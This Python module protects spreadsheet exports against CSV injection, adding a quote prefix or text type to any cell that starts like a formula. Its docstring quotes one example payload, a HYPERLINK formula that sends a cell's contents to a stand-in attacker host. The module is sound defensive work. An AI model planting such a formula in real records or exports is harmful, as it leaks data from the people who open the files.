"""Cells for spreadsheets: text from records never becomes a live formula (CSV injection).

A title typed into a partner's form (``=HYPERLINK("http://evil.example/?"&A1,"Klik")``) is
imported as a record and exported again; opened in Excel, a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) would run as a formula. The OWASP rule:
such a cell gets a ``'`` in front in CSV (Excel then shows it as text), and in a workbook it is
stored as text with Excel's quote prefix, so it reads exactly as written. Every writer of CSV or
Excel in the tool goes through here.
"""

from __future__ import annotations

from typing import Any, Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_risky(value: object) -> bool:
    """Whether a spreadsheet could take ``value`` for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(text: str) -> str:
    """``text`` for a CSV cell: a ``'`` in front of anything a spreadsheet would evaluate."""
    return "'" + text if is_risky(text) else text


def csv_row(cells: list[str]) -> list[str]:
    """Every cell of a CSV row through ``csv_cell``."""
    return [csv_cell(c) for c in cells]


def append_row(sheet: Any, values: list[Any]) -> None:
    """``sheet.append(values)`` with every text that looks like a formula kept as text.

    openpyxl turns a string that starts with ``=`` into a formula; the cell's type is set back
    to text and Excel's quote prefix added, so neither openpyxl nor Excel evaluates it. A
    control character, which a worksheet cannot hold (openpyxl refuses the whole cell), is
    written as an escape (``\x1b``).
    """
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    sheet.append([ILLEGAL_CHARACTERS_RE.sub(_escaped, v) if isinstance(v, str) else v
                  for v in values])
    for cell in sheet[sheet.max_row]:
        if is_risky(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def _escaped(found: Any) -> str:
    return f"\\x{ord(found.group()):02x}"
